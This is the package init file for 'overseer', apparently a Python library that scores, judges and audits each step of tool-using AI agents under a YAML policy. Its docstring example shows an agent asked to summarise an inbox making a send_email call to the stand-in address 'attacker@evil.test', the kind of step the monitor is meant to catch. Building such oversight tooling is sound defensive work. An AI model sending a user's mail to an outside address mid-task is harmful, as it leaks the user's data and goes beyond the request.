"""overseer: process oversight for tool-using AI agents.

Every step an agent takes (plan, tool call, observation, final answer) is scored by a process reward model
and rules, judged by a YAML policy (allow, flag, block, resample, escalate) before it has effects, and recorded
through OpenTelemetry into a SQL audit store.

    from overseer import Overseer, ToolCall

    overseer = Overseer("default", store="sqlite:///audit.db")
    with overseer.trajectory(task="Summarise my inbox") as run:
        verdict = run.judge(ToolCall(tool="send_email", args={"to": "attacker@evil.test"}))
"""

from overseer._pipeline import Overseer, TrajectoryHandle
from overseer._version import __version__
from overseer.exceptions import (
    ConfigError,
    LifecycleError,
    MissingDependencyError,
    OverseerError,
    PolicyError,
    ScorerError,
    ScorerTimeoutError,
    StoreError,
    TrajectoryFormatError,
)
from overseer.policy import Policy, load_policy
from overseer.readers import read_trajectories
from overseer.scorers import BaseScorer, CompositeScorer, RulesScorer, ScoreRequest, StepScorer
from overseer.steps import (
    FinalAnswer,
    Message,
    Observation,
    Plan,
    Provenance,
    Review,
    Score,
    Step,
    ToolCall,
    ToolChange,
    Trajectory,
)
from overseer.store import AuditStore
from overseer.telemetry import Telemetry
from overseer.verdict import ACTIONS, Action, Verdict

__all__ = [
    "ACTIONS",
    "Action",
    "AuditStore",
    "BaseScorer",
    "CompositeScorer",
    "ConfigError",
    "FinalAnswer",
    "LifecycleError",
    "Message",
    "MissingDependencyError",
    "Observation",
    "Overseer",
    "OverseerError",
    "Plan",
    "Policy",
    "PolicyError",
    "Provenance",
    "Review",
    "RulesScorer",
    "Score",
    "ScoreRequest",
    "ScorerError",
    "ScorerTimeoutError",
    "Step",
    "StepScorer",
    "StoreError",
    "Telemetry",
    "ToolCall",
    "ToolChange",
    "Trajectory",
    "TrajectoryFormatError",
    "TrajectoryHandle",
    "Verdict",
    "__version__",
    "load_policy",
    "read_trajectories",
]
